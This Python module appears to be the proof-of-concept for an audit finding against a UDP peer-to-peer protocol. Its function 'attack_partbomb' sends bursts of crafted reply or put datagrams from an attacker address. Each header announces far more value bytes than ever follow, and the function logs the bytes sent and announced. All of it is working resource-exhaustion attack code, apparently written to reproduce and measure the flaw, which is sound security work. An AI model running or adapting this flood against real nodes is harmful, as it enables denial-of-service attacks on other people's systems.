"""Finding 1: value-part headers announcing far more bytes than ever follow (reply and put shapes)."""
import time

from .config import MAX_DATAGRAM
from .traffic import attacker_ips
from .wire import Wire, query, reply, rid, rtid


def fit_sizes(build, size, limit=MAX_DATAGRAM):
    """The most announced values of `size` bytes whose header still fits in `limit` bytes."""
    n = (limit // 3) + 1
    while len(build([size] * n)) > limit:
        n -= 1
    return n


def attack_partbomb(t, env, shape):
    w = Wire(t.addr, ip=attacker_ips(1, False)[0], client=False)
    tok = (w.token() or b"\0" * 32) if shape == "request" else None
    size = env.args.part_size

    def header(sizes, tid):
        if shape == "reply":
            return reply({"id": rid(), "values": sizes}, tid)
        return query("put", {"id": rid(), "h": rid(), "values": sizes, "token": tok}, tid)
    n = fit_sizes(lambda sizes: header(sizes, 0xFFFFFFFF), size)
    # Built beforehand, so each round leaves as one burst.
    rounds = [[header([size] * n, rtid()) for _ in range(env.args.headers)] for _ in range(env.args.rounds)]
    sent = bytes_sent = 0
    t0 = time.monotonic()
    for i, datagrams in enumerate(rounds):
        while time.monotonic() < t0 + i * env.args.round_interval:
            time.sleep(0.01)
        for d in datagrams:
            w.send(d)
            sent += 1
            bytes_sent += len(d)
    secs = time.monotonic() - t0
    got = w.drain(0.5)
    w.close()
    return {"shape": shape, "headers_sent": sent, "values_per_header": n, "announced_value_size": size,
            "datagram_bytes": bytes_sent // max(1, sent), "udp_bytes": bytes_sent, "seconds": round(secs, 2),
            "announced_bytes_per_round": env.args.headers * n * size,
            "answers_to_attacker": len([m for m in got if m is not None])}
